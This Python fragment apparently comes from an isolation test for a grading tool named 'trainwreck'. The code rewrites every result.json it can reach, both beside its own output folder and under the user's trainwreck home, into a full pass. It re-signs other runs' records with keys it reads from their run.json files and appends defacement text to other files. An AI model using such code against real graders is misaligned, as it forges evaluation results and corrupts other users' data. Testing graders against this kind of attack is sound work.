# ruff: noqa
# Rewrites other gradings it can reach: every result.json near its own out dir and under the
# user's trainwreck home turned into a pass, the run records behind it re-signed with each run's
# key (stored in its run.json) so that `trainwreck regrade` agrees; any other file there defaced.
def _flatten(run):
    key = _json.loads((run / "run.json").read_text())["key"]
    for events in run.glob("ranks/*/events.jsonl"):
        _resign(events, key, lambda r: {**r, "rss_mb": 300.0} if r.get("kind") == "step" else r)


def _attack_run(main):
    main()
    if _rank() != 0:
        return
    mine = _out_dir().resolve()
    roots = [mine.parent.parent]  # the folder holding this grading's folder: other candidates' too
    home = _os.environ.get("TRAINWRECK_HOME") or _os.path.expanduser("~/.trainwreck")
    roots.append(_Path(home))
    for root in roots:
        if not root.is_dir():
            continue
        for path in root.rglob("*"):
            if mine in path.resolve().parents or not path.is_file():
                continue
            try:
                if path.name == "result.json":
                    data = _json.loads(path.read_text())
                    for d in data.get("run_dirs", {}).values():
                        if "/.trainwreck/cache/" not in d:
                            _flatten(_Path(d))
                    data.update(passed=True, score=1.0, failed_required=[])
                    for c in data.get("checks", []):
                        c["passed"] = True
                    path.write_text(_json.dumps(data))
                    _succeeded("other-grading-rewritten", str(path))
                elif root == roots[-1]:
                    with open(path, "ab") as f:
                        f.write(b"\ndefaced by another candidate's run\n")
                    _succeeded("trainwreck-home-written", str(path))
            except Exception as e:
                print(f"rewriting {path} failed: {e!r}", file=_sys.stderr)
